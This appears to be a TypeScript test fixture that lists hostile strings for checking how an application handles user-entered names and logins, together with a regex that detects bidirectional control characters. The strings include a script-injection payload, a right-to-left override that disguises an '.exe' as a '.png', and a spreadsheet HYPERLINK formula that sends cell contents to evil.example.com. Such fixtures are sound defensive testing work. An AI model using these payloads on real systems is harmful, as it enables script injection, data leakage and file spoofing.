/** What somebody may have called themselves or something. None has white space: each may be a login as well. */
export const HOSTILE_TEXTS = {
  markup: `"'><img/src=x/onerror=alert(1)><script>alert(2)</script>{{1}}\${1}&lt;`,
  /** Turns the direction of what follows, ends what was not begun, and begins what is not ended. */
  direction: '\u202Egnp.exe\u2069\u2069\u202C\u202D\u2067\u200Fעברית',
  formula: '=HYPERLINK("http://evil.example.com/?"&A1,"=1+1")',
  long: 'W'.repeat(10_000),
} as const;

export type HostileKind = keyof typeof HOSTILE_TEXTS;

/** What reaches out of any element around it. */
export const DIRECTION_CONTROL = /[\u061C\u200E\u200F\u202A-\u202E\u2066-\u2069]/;
